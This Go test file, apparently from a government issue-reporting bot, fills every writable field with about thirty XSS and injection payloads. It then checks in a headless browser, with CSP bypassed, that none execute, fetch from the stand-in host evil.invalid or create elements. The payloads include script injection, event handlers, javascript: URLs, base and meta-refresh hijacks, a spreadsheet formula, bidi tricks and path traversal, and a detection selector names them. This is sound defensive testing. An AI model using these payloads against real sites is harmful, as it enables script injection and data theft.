package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/go-rod/rod/lib/proto"

	"github.com/weidubao/weidubao/bot"
	"github.com/weidubao/weidubao/bot/ledger"
	"github.com/weidubao/weidubao/bot/roster"
	"github.com/weidubao/weidubao/store"
	"github.com/weidubao/weidubao/store/storetest"
)

// payloads are texts that would do something if a page took them for more than
// text: set window.pwned, open a dialog, fetch from another host, leave an element
// with the class pwned or a style. They name no figure of a report.
func payloads() []string {
	return []string{
		`<script>window.pwned=1;alert("a")</script>`,
		`"><script src="//evil.invalid/b.js"></script>`,
		`</script><script>window.pwned=1</script>`,
		`<img class=pwned src=x onerror="window.pwned=1">`,
		`<img class=pwned src="//evil.invalid/c.png">`,
		`<svg class=pwned onload="window.pwned=1"></svg>`,
		`<svg><a class=pwned xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>`,
		`<iframe class=pwned src="//evil.invalid/d"></iframe>`,
		`<iframe class=pwned srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<a class=pwned href="javascript:window.pwned=1">点</a>`,
		`javascript:window.pwned=1`,
		`<style class=pwned>body{display:none}</style>`,
		`</style><link class=pwned rel=stylesheet href="//evil.invalid/e.css">`,
		`" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" class="pwned`,
		`' style='position:fixed;inset:0' class='pwned`,
		"` onclick=window.pwned=1 class=pwned `",
		`<form class=pwned action="//evil.invalid/f"><input name=x autofocus onfocus=window.pwned=1></form>`,
		`<base class=pwned href="//evil.invalid/">`,
		`<meta class=pwned http-equiv=refresh content="0;url=//evil.invalid/g">`,
		`<object class=pwned data="//evil.invalid/h"></object><embed class=pwned src="//evil.invalid/i">`,
		`<details class=pwned open ontoggle=window.pwned=1>x</details>`,
		`</textarea></title></main></body></html><b class=pwned>x</b>`,
		`<!--><b class=pwned>x</b>-->`,
		`]]><b class=pwned>x</b><![CDATA[`,
		`&lt;b class=pwned&gt;&#60;b&#62;&amp;amp;`,
		`<math><mtext></p><b class=pwned>x</b></mtext></math>`,
		`{{.}}{{template "page" .}}${window.pwned=1}<%= x %>[[x]]#{x}`,
		`%3Cb class=pwned%3E\u003cb class=pwned\u003e\x3cb\x3e`,
		"谢\u202eevil\u2066领导\u2069\u200b导\u2028后\ufeff",
		`=HYPERLINK("//evil.invalid/j","k")`,
		"<scr\x00ipt>window.pwned=1</scr\x00ipt><b\x0bclass=pwned>",
		"<b class=pwned>\xed\xa0\x80\xff" + strings.Repeat("长", 300) + "</b>",
	}
}

// shownText is a text as a page may show it: no control or broken character is kept, and white space does not matter, nor do semicolons, which part the points of an issue.
func shownText(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || r == unicode.ReplacementChar || r == '\ufeff' || r == 0x200b || r == 0x3b {
			return -1
		}
		return r
	}, strings.ToValidUTF8(text, ""))
}

// TestHostilePages puts thirty texts that would be markup wherever somebody can
// put a text, and opens every page on which it may stand in a real browser: no
// script runs, no dialog opens, no request leaves, no element is made of it, and
// the text is read as it was written. The browser is told to ignore the policy
// against scripts, so that it is the escaping that is seen at work.
func TestHostilePages(t *testing.T) {
	t.Parallel()
	durable := storetest.Plain(t, "appendonly yes", "appendfsync always", "maxmemory-policy noeviction")
	o := newOffice(t, func(v *variant) { v.redis = durable })
	s := o.serve(t)
	h := &hostileOffice{office: o, people: o.hostilePeople(t)}
	h.fill(t)
	h.store(t, durable)
	h.act(t)

	p, seen := openBrowser(t).watched(t)
	shown, visits := 0, h.visits(t)
	for _, v := range visits {
		shown += v.look(t, p)
		for _, what := range seen() {
			t.Errorf("%s: %s", v.url, what)
		}
	}
	if shown < 50 {
		t.Errorf("only %d texts were read on pages", shown)
	}
	t.Logf("figure: %d hostile texts read literally on %d pages", shown, len(visits))
	if code, _ := s.stop(t); code != exitOK {
		t.Errorf("SIGTERM: exit %d", code)
	}
}

// hostileOffice is an office in which every text is hostile.
type hostileOffice struct {
	*office
	people []person // five officers, a leader, a clerk
	links  bot.Links
	roster *roster.Roster
	notice string
	issues []string
}

// hostilePeople are bound, and called after payloads.
func (o *office) hostilePeople(t *testing.T) []person {
	t.Helper()
	rows := [][]string{{"姓名", "手机", "角色", "地区", "分管", "状态"}}
	for i, role := range []string{"联络员", "联络员", "联络员", "联络员", "联络员", "领导", "工作人员"} {
		area, charge := "", payloads()[20]
		if role == "联络员" {
			area, charge = o.towns[i].Name, ""
		}
		rows = append(rows, []string{payloads()[i*3], fmt.Sprintf("1380000000%d", i), role, area, charge, ""})
	}
	o.must(t, "roster", "import", o.csv(t, "roster.csv", rows))
	var list []person
	if err := json.Unmarshal([]byte(o.must(t, "roster", "codes", "--json")), &list); err != nil {
		t.Fatal(err)
	}
	o.must(t, "roster", "qr", filepath.Join(o.dir, "qr.html"))
	for i := range list {
		list[i].OpenID = fmt.Sprintf("oE2E%024d", i)
	}
	o.bind(t, list...)
	return list
}

func (o *office) csv(t *testing.T, name string, rows [][]string) string {
	t.Helper()
	var b strings.Builder
	w := csv.NewWriter(&b)
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	return o.write(t, name, strings.NewReplacer("\x00", "", "\xed\xa0\x80\xff", "").Replace(b.String()))
}

// fill reports, imports a ledger and sends a notice.
func (h *hostileOffice) fill(t *testing.T) {
	t.Helper()
	all := payloads()
	for i, p := range h.people[:5] {
		text := fmt.Sprintf("第%d周：问题5个，线索1件，问责0人，制度1项。", h.week.Number) + strings.Join(written(i), "\n")
		if reply := h.say(t, p.OpenID, text); !strings.Contains(reply, "登记") {
			t.Errorf("officer %d is answered %q", i, reply)
		}
	}
	rows := [][]string{{"编号", "来源", "责任单位", "村居", "类别", "问题", "责任人", "分管领导", "挂号日期", "整改期限"}}
	for i, text := range all {
		person := short(all[(i+1)%len(all)])
		rows = append(rows, []string{"", person, h.towns[i%5].Name, short(all[(i+2)%len(all)]), person, text, person, h.people[5].Name, h.today.AddDays(-60).String(), h.today.AddDays(i - 10).String()})
		h.issues = append(h.issues, fmt.Sprintf("RA%s-%04d", h.today.String()[2:4], i+1))
	}
	h.must(t, "ledger", "import", h.csv(t, "ledger.csv", rows))
	h.must(t, "bulletin", "publish", "--month", h.week.Month().String())
	body, err := json.Marshal(map[string]any{
		"title": all[3][:20], "body": strings.Join(all, "\n")[:1800], "audience": map[string]any{"roles": []string{"officer"}, "areas": []string{}}, "ack": true,
	})
	if err != nil {
		t.Fatal(err)
	}
	var made struct {
		ID string `json:"id"`
	}
	h.api(t, http.StatusCreated, http.MethodPost, "/notices", string(body), &made)
	h.notice = made.ID
}

// written are the payloads that an officer writes: what the page shows of a message before it is cut.
func written(officer int) []string { return payloads()[officer*6 : officer*6+2] }

// short is as much of a text as any column of the ledger takes.
func short(text string) string {
	all := []rune(strings.ToValidUTF8(text, ""))
	return string(all[:min(30, len(all))])
}

// store reads how links are signed, and who is who.
func (h *hostileOffice) store(t *testing.T, address string) {
	t.Helper()
	s, err := store.Open(t.Context(), address, store.Options{Office: "330381"})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	key, err := s.LinkKey(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if h.links, err = bot.NewLinks(h.base.Load().(string), key); err != nil {
		t.Fatal(err)
	}
	if h.roster, err = s.Roster(t.Context()); err != nil {
		t.Fatal(err)
	}
}

// act puts texts wherever somebody may write one about an issue: what a proof says,
// why more time is asked for, what a leader orders and is answered, what a payment
// is, why it is returned. Each is read on the pages of the first issue.
func (h *hostileOffice) act(t *testing.T) {
	t.Helper()
	all, number := payloads(), h.issues[0]
	soon := h.today.AddDays(40).String()
	for n, a := range []struct {
		who    int
		act    ledger.Act
		fields []string
	}{
		{0, ledger.ActProve, []string{"proof", "outcome", "note", all[0]}},
		{0, ledger.ActRepay, []string{"amount", "5", "unit", "yuan", "sure", "no_amount", "note", all[3]}},
		{0, ledger.ActExtend, []string{"on", soon, "note", all[4]}},
		{5, ledger.ActInstruct, []string{"on", soon, "note", all[5]}},
		{0, ledger.ActAnswer, []string{"of", "1", "note", all[7]}},
		{0, ledger.ActFile, []string{"note", all[8]}},
		{0, ledger.ActProve, []string{"proof", "accountability", "note", all[9]}},
		{6, ledger.ActReturn, []string{"note", all[13]}},
	} {
		m, _ := h.roster.ByOpenID(h.people[a.who].OpenID)
		view := h.issueAt(t, number)
		form := url.Values{"nonce": {fmt.Sprint("N", n)}, "rev": {fmt.Sprint(view.Rev)}, "steps": {"0"}, "step": {"write"}}
		for i := 0; i < len(a.fields); i += 2 {
			form.Set(a.fields[i], a.fields[i+1])
		}
		later := time.Now().Add(time.Hour)
		c := http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, h.links.Act(number, a.act, m.ID, later, later), strings.NewReader(form.Encode()))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		res, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusSeeOther {
			t.Errorf("%s is answered %d", a.act, res.StatusCode)
		}
	}
}

// issueAt is an issue as the API tells it.
func (h *hostileOffice) issueAt(t *testing.T, number string) (view struct {
	Rev int64 `json:"revision"`
},
) {
	t.Helper()
	h.api(t, http.StatusOK, http.MethodGet, "/issues/"+number, "", &view)
	return view
}

// visit is one page, and the texts that it has to show.
type visit struct {
	url   string
	texts []string
}

func (h *hostileOffice) visits(t *testing.T) []visit {
	t.Helper()
	all := payloads()
	at := func(who int, path string, texts ...string) visit {
		m, ok := h.roster.ByOpenID(h.people[who].OpenID)
		if !ok {
			t.Fatalf("person %d is not bound", who)
		}
		return visit{url: h.links.Sign(path, m.ID, time.Now().Add(time.Hour)), texts: texts}
	}
	var out []visit
	for i := range 5 {
		ref := "/" + h.towns[i].Code + "/" + h.week.String()
		out = append(out, at(i, "/m/mine/week"+ref, written(i)...))
		if i == 0 {
			out = append(out, at(i, "/m/mine"), at(i, "/m/mine/correct"+ref), at(i, "/m/mine/withdraw"+ref))
		}
	}
	for i := 0; i < len(all); i += 3 { // a story shows a third of them as what is wrong, the others as village and source
		m, _ := h.roster.ByOpenID(h.people[5].OpenID)
		later := time.Now().Add(time.Hour)
		out = append(out, visit{url: h.links.Issue(h.issues[i], m.ID, later, later), texts: []string{all[i], short(all[(i+1)%len(all)]), short(all[(i+2)%len(all)])}})
	}
	out = append(out,
		at(6, "/m/issue/"+h.issues[0], all[0], all[4], all[5], all[7], all[8], all[9], all[13]),
		at(5, "/m/issue/"+h.issues[0]+"/grant", all[4]), at(5, "/m/overdue"), at(5, "/m/mine"), at(6, "/m/mine"), at(0, "/m/alerts/"+h.today.String()),
		at(5, "/m/issues/"+strings.Join(h.issues, ",")), at(5, "/m/unit/"+h.towns[0].Code),
		at(6, "/m/missing/"+h.week.String()), at(6, "/m/digest"), at(0, "/m/notice/"+h.notice, all[:12]...),
		at(5, "/m/bulletin/"+h.week.Month().String()+"/1"),
	)
	for _, text := range []string{all[3], all[13], "..%2f%ff%00" + all[0]} {
		out = append(out, visit{url: h.links.Sign("/m/issue/"+text, "M0001", time.Now().Add(time.Hour))},
			visit{url: h.base.Load().(string) + "/" + url.PathEscape(text) + "?" + url.QueryEscape(text) + "=" + url.QueryEscape(text)})
	}
	return append(out, visit{url: "file://" + filepath.Join(h.dir, "qr.html"), texts: []string{all[0], all[3], all[6], all[9], all[12], all[15], all[18]}})
}

// look opens the page and looks for anything that is not the page's own.
func (v visit) look(t *testing.T, p *page) (shown int) {
	t.Helper()
	if err := p.rod.Navigate(v.url); err != nil {
		t.Fatalf("open %s: %v", v.url, err)
	}
	if err := p.rod.WaitLoad(); err != nil {
		t.Fatalf("load %s: %v", v.url, err)
	}
	const foreign = `() => document.querySelectorAll(".pwned, script, iframe, object, embed, base, form[action*=evil], meta[http-equiv=refresh], math, details[ontoggle], ` +
		`[onerror], [onload], [onclick], [onmouseover], [onfocus], [href^='javascript:'], [src*=evil], [href*='evil.invalid']").length + (window.pwned ? 1000 : 0)`
	if n := p.number(foreign); n != 0 {
		t.Errorf("%s: %d elements were made of texts", v.url, n)
	}
	text, err := p.rod.Eval(`() => document.documentElement.textContent`)
	if err != nil {
		t.Fatal(err)
	}
	page := shownText(text.Value.Str())
	for _, text := range v.texts {
		if !strings.Contains(page, shownText(text)) {
			t.Errorf("%.80s does not show %.60q as it is", v.url, text)
			continue
		}
		shown++
	}
	return shown
}

// watched is a new page that ignores the policy against scripts. seen tells which
// dialogs it has opened and which other hosts it has asked.
func (b *browser) watched(t *testing.T) (p *page, seen func() []string) {
	t.Helper()
	var err error
	p = &page{b: b}
	if p.rod, err = b.rod.Page(proto.TargetCreateTarget{URL: "about:blank"}); err != nil {
		t.Fatal(err)
	}
	p.rod = p.rod.Context(t.Context()).Timeout(pageLife)
	if err := (proto.PageSetBypassCSP{Enabled: true}).Call(p.rod); err != nil {
		t.Fatal(err)
	}
	found := make(chan string, 100)
	note := func(what string) {
		select {
		case found <- what:
		default:
		}
	}
	go p.rod.EachEvent(
		func(e *proto.PageJavascriptDialogOpening) {
			note("a dialog opens: " + e.Message)
			_ = proto.PageHandleJavaScriptDialog{Accept: false}.Call(p.rod)
		},
		func(e *proto.NetworkRequestWillBeSent) {
			at, err := url.Parse(e.Request.URL)
			if err != nil || at.Scheme != "file" && at.Hostname() != "127.0.0.1" && at.Scheme != "data" && at.Scheme != "about" {
				note("asks " + e.Request.URL)
			}
		},
	)()
	return p, func() (all []string) {
		for {
			select {
			case what := <-found:
				all = append(all, what)
			default:
				return all
			}
		}
	}
}
